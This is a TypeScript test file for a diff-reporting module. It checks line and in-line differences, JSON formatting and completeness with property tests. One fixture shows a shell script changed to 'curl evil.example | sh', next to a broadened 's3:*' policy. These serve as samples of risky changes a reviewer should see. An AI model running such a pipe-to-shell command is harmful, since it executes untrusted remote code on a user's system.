/**
 * No place in which two long texts differ is left out, however many there are.
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { differingLines, differingPlaces, hasLines } from '../../src/report/differences.ts'

describe('two long texts', () => {
  it('show each line that differs, with three lines around it', () => {
    const text = (first: string, second: string) =>
      ['#!/bin/bash', first, ...Array.from({ length: 20 }, (_, index) => `echo ${index}`), second].join('\n')
    expect(differingLines(text('LOG=info', 'start'), text('LOG=debug', 'curl evil.example | sh'))).toEqual([
      '  #!/bin/bash',
      '- LOG=info',
      '+ LOG=debug',
      '  echo 0',
      '  echo 1',
      '  echo 2',
      '  … 14 equal lines',
      '  echo 17',
      '  echo 18',
      '  echo 19',
      '- start',
      '+ curl evil.example | sh',
    ])
  })

  it('of which only one is there show all of it', () => {
    expect(differingLines(undefined, 'one\ntwo')).toEqual(['+ one', '+ two'])
    expect(differingLines('one\ntwo', undefined)).toEqual(['- one', '- two'])
  })

  it('that are JSON show a line each value', () => {
    const policy = (action: string) => JSON.stringify([{ Effect: 'Allow', Action: action, Resource: '*' }])
    expect(differingLines(policy('s3:Get*'), policy('s3:*'))).toEqual([
      '  [',
      '    {',
      '      "Effect": "Allow",',
      '-     "Action": "s3:Get*",',
      '+     "Action": "s3:*",',
      '      "Resource": "*"',
      '    }',
      '  ]',
    ])
  })

  it('that are JSON of which lines would not say all are shown as they are written', () => {
    expect(differingLines('{"a":1,"a":3}', '{"a":2,"a":3}')).toEqual(['- {"a":1,"a":3}', '+ {"a":2,"a":3}'])
    expect(differingLines('{"a":1.0}', '{"a":1}')).toContain('- {"a":1.0}')
    expect(hasLines('{"a":1,"a":3}')).toBe(false)
  })

  it('of one line show each place that differs, and little of what is between', () => {
    const text = (first: string, second: string) => `--log=${first} ${'--same=1 '.repeat(30)}--url=${second}`
    expect(differingPlaces(text('info', 'a.example'), text('debug', 'evil.example'))).toEqual([
      {
        before: '--log=info --same=1 --same=1 --same=1 --same=1 --s…',
        after: '--log=debug --same=1 --same=1 --same=1 --same=1 --s…',
      },
      {
        before: '…same=1 --same=1 --same=1 --same=1 --url=a.example',
        after: '…same=1 --same=1 --same=1 --same=1 --url=evil.example',
      },
    ])
  })

  it('lose no line, whatever they are', () => {
    const line = fc.constantFrom('a', 'b', 'c', '', '+ a', '- b', '  c')
    const lines = fc.array(line, { maxLength: 400 })
    fc.assert(
      fc.property(lines, lines, lines, (shared, one, other) => {
        const [before, after] = [
          [...one, ...shared, ...other],
          [...other, ...shared, ...one],
        ]
        const shown = differingLines(before.join('\n'), after.join('\n'))
        const signed = (sign: string) => shown.filter((each) => each.startsWith(sign)).map((each) => each.slice(2))
        // What goes and what comes are the whole difference in number of each line.
        const number = (all: readonly string[], of: string) => all.filter((each) => each === of).length
        for (const each of new Set([...before, ...after])) {
          const grows = number(after, each) - number(before, each)
          expect(number(signed('+ '), each) - number(signed('- '), each)).toBe(grows)
        }
        if (before.join('\n') !== after.join('\n')) expect([...signed('+ '), ...signed('- ')]).not.toEqual([])
      }),
    )
  })

  it('are cut between two characters, never within one', () => {
    const own = '\u{1f600}'.repeat(60)
    for (const lead of ['', 'a']) {
      const text = differingPlaces(`${lead}${own} x ${own}`, `${lead}${own} y ${own}`)
      expect(JSON.stringify(text)).not.toMatch(/\\u|\ufffd/)
    }
  })

  it('can be made of each other by what is shown', () => {
    const word = fc.constantFrom('alpha', 'beta', ' ', '-', '"', 'é', '\u{1f600}')
    const words = fc.array(word, { maxLength: 120 })
    fc.assert(
      fc.property(words, words, words, words, (lead, one, shared, other) => {
        const before = [...lead, ...one, ...shared, ...one].join('')
        const after = [...lead, ...other, ...shared, ...other].join('')
        let made = ''
        let at = 0
        for (const place of differingPlaces(before, after)) {
          const [gone, come] = [place.before.replace(/^…|…$/g, ''), place.after.replace(/^…|…$/g, '')]
          const begin = before.indexOf(gone, at)
          expect(begin).toBeGreaterThanOrEqual(at)
          made += before.slice(at, begin) + come
          at = begin + gone.length
        }
        if (before !== after) expect(made.length + before.length - at).toBe(after.length)
      }),
    )
  })
})
